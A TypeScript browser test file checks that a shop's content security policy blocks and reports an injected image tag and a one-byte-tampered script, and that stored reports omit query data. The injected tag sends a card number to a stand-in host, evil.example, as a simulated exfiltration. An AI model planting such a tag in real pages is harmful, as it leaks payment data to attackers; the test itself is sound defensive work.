import { createSecurityCalls } from '@aaram/shared-domain/contract';
import { expect, it } from 'vitest';
import { clientFor, DEMO_PASSWORD } from '#lib/api.ts';
import { withBrowser } from '#lib/browser/browser.ts';
import { shopUrl } from '#lib/store/store-under-test.ts';

const visit = withBrowser({ hasPictures: true });

async function readReports() {
  const { token } = await clientFor(shopUrl).login({ email: 'admin@example.com', password: DEMO_PASSWORD });
  return createSecurityCalls(clientFor(shopUrl, token).call).getReports(1000);
}
const reported = async () =>
  (await readReports()).map(({ kind, directive, blocked, page }) => `${kind} ${directive} ${blocked} ${page}`);

// security: content-policy
it('a browser reports what its policy refuses, and a file with one changed byte, and admins read it', async ({
  annotate,
}) => {
  const { page } = await visit();
  await page.goto(`${shopUrl}/faq?email=meera@example.com`, { waitUntil: 'networkidle' });
  await page.evaluate(() => {
    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png?card=4111111111111111">');
  });
  await expect.poll(reported).toContain('policy img-src https://evil.example /faq');

  const changed = await visit();
  await changed.page.route(/\/assets\/main\..*\.js$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()} ` });
  });
  await changed.page.goto(`${shopUrl}/women`);
  await expect
    .poll(async () => (await reported()).filter((line) => line.startsWith('integrity hash /assets/main.')))
    .toHaveLength(1);
  const rows = await readReports();
  expect(JSON.stringify(rows)).not.toMatch(/meera|4111111111111111/);
  await annotate(`2 refusals made, ${rows.length} kinds of report stored, none with a query`, 'figure');
});
